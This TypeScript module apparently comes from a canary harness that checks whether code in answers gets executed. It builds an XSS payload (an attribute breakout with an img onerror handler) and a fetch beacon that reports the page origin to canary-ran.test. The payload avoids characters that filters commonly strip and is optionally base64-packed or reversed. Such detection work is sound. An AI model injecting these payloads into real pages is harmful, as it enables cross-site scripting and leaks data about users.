/** Where the code in answers reports that somebody ran it. */
export const RAN_HOST = "canary-ran.test";

/**
 * Code that says where it runs, as an expression, so that it works in a function, an attribute and a module alike. It holds
 * none of the signs at which scripts cut what they read: no blank, quote, comma, plus sign, `&`, `<` or `>`.
 */
export function beaconCode(id: string): string {
	return `void(fetch(\`https://${RAN_HOST}/${id}/\`.concat(self.origin)).catch(Object))`;
}

/** What a report of such code says; null when it is none. */
export function readBeacon({ pathname }: URL): { readonly id: string; readonly where: string } | null {
	const [, id, where] = /^\/(\w+)\/(.*)$/.exec(pathname) ?? [];
	return id === undefined || where === undefined ? null : { id, where };
}

/** Text that runs the code when it becomes part of a page, also within an attribute. */
export const asMarkup = (code: string): string => `"'><img/src/onerror=${code}>`;

/** The code as a script wants it that unpacks what it gets, or as it is. */
export function packedFor(script: string, code: string, visit: number): string {
	if (visit === 0 || !/\batob\b|base64|\bb64/i.test(script)) return code;
	// Blanks at the end, so that no sign of the packed text only fills up.
	const packed = btoa(code.padEnd(Math.ceil(code.length / 3) * 3));
	return visit === 2 && /reverse/.test(script) ? [...packed].reverse().join("") : packed;
}
